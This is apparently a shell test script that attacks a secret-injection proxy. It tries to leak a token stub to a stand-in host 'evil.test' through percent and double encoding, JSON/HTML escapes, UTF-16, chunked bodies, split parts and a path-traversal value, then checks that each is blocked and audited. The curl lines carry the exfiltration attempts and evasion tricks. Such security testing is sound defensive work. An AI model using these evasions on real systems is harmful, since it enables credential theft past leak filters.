#!/bin/sh
# Attacks on where a stub may stand and how it may be written.  Numbers:
# README.md here.
# shellcheck disable=SC2016
# shellcheck source=lib.sh
. "$BRIG_SRCDIR/tests/attack/lib.sh"
attack_setup attack-surfaces
API=$(random_token)
printf %s "$API" | brig secret add api --host "other.test:$OTHER" \
    --surface body:json --surface query:key --surface path --env API_TOKEN \
    >/dev/null
G="https://good.test:$GOOD"
E="https://evil.test:$EVIL"
O="https://other.test:$OTHER"
# In a job: the stub with every byte as %XX, in either case, and twice.
pct='pct() { printf %s "$GOOD_TOKEN" | od -An -v -tx1 | tr -d "\n" |
    sed "s/ /%/g"; }'

job "curl -sS '$O/control-q?key='\$API_TOKEN
curl -sS '$O/control-p/'\$API_TOKEN
curl -sS -H 'Content-Type: application/json' -d \"{\\\"t\\\":\\\"\$API_TOKEN\\\"}\" $O/control-b
curl -sS $E/control-evil"
check "control: query, path and body get the real value" sh -c '
    grep -q "control-q?key=$0" "$1" && grep -q "control-p/$0" "$1" &&
    grep control-b "$1" | grep -q "$0"' "$API" "$T/other.test.rec"
check "control: the other host is reachable" reached evil.test /control-evil

job "$pct
curl -sS -H \"X-A: \$(pct)\" $G/a03-lower
curl -sS -H \"X-A: \$(pct | tr a-f A-F)\" $G/a03-upper
curl -sS -H \"X-A: \$(pct | sed 's/%/%25/g')\" $G/a03-twice
curl -sS \"$E/a03-path/\$(pct)\"
curl -sS \"$E/a03-query?q=\$(pct | sed 's/%/%25/g')\""
check "03 no spelling with percent signs passes" sh -c '
    ! grep -h a03- "$T"/*.rec'
check "03 each is in the audit log" sh -c '
    for w in a03-lower a03-upper a03-twice a03-path a03-query; do
        grep -h SE401 "$T"/log/*.jsonl | grep -q "$w" || exit 1; done'

job 'u() { printf %s "$GOOD_TOKEN" | od -An -v -tx1 | tr -d "\n"; }
post() { curl -sS --data-binary @- "'"$E"'/a04-$1"; }
u | sed "s/ /\\\\u00/g" | post json
u | sed "s/ \(..\)/\&#x\1;/g" | post html
printf %s "$GOOD_TOKEN" | iconv -t UTF-16LE | post utf16
echo control | post control'
check "04 control: bodies reach that host" reached evil.test a04-control
check "04 a stub with escapes or in UTF-16 in a body is told of" sh -c '
    for w in a04-json a04-html a04-utf16; do
        grep -h SE101 "$T"/log/*.jsonl | grep -q "$w" || exit 1; done
    ! grep -h SE101 "$T"/log/*.jsonl | grep -q a04-control'

job "/usr/bin/python3 -c '
import http.client, os, ssl, time
c = http.client.HTTPSConnection(\"other.test\", $OTHER)
c.putrequest(\"POST\", \"/echo06\")
c.putheader(\"Content-Type\", \"application/json\")
c.putheader(\"Transfer-Encoding\", \"chunked\")
c.endheaders()
for b in (\"{\\\"t\\\":\\\"%s\\\"}\" % os.environ[\"API_TOKEN\"]).encode():
    c.send(b\"1\\r\\n%c\\r\\n\" % b)
c.send(b\"0\\r\\n\\r\\n\")
print(c.getresponse().read())'"
check "06 a stub that comes byte by byte is swapped" sh -c '
    grep echo06 "$1" | grep -q "$0"' "$API" "$T/other.test.rec"
check "07 what the origin echoes of it is the stub" job_does_not_say "$API"

job "curl -sS -H 'Content-Type: application/json' \
    -d \"{\\\"t\\\":\\\"\$API_TOKEN\\\"}\" '$E/a07'"
check "07 a body to a host it is not for keeps the stub" sh -c '
    grep -q /a07 "$1" && ! grep -q "$0" "$1"' "$API" "$T/evil.test.rec"

check "16 a value with a line end is not taken" sh -c '
    ! printf "abcdefgh12345678\nX: y\n" | brig secret add nl --host h.test &&
    ! brig secret list | grep -qw nl'
printf %s 'abcd1234/../../admin%2f' | brig secret add slash \
    --host "good.test:$GOOD" --surface path --env SLASH >/dev/null
job "curl -sS --path-as-is \"$G/a17/\$(printf %s \"\$SLASH\" | sed 's/%/%25/g; s,/,%2f,g')\""
check "17 a value with slashes is not put into a path" not_reached good.test admin
check "17 and the job is told why" job_says '"error"'

job "curl -sS \"$O/a20-two?key=\$API_TOKEN&key=\$API_TOKEN\"
curl -sS \"$O/a20-both/\$API_TOKEN?key=\$API_TOKEN\"
curl -sS -H \"X-A: \$API_TOKEN\" \"$O/a20-field?key=\$API_TOKEN\"
h=\$(printf %s \"\$API_TOKEN\" | cut -c1-20) t=\$(printf %s \"\$API_TOKEN\" | cut -c21-)
curl -sS \"$E/a20-parts?b=\$t&a=\$h\"
curl -sS -H \"Cookie: a=\$h; b=\$t\" $E/a20-cookie
curl -sS -H \"X-A: \$h\" -H \"X-B: \$t\" $E/a20-fields"
check "20 a stub in two places, or in parts, goes nowhere" sh -c '
    ! grep -h a20- "$T"/*.rec'
check "20 each is in the audit log" sh -c '
    for w in two both field parts cookie fields; do
        grep -h SE401 "$T"/log/*.jsonl | grep -q "a20-$w" || exit 1; done'
attack_end
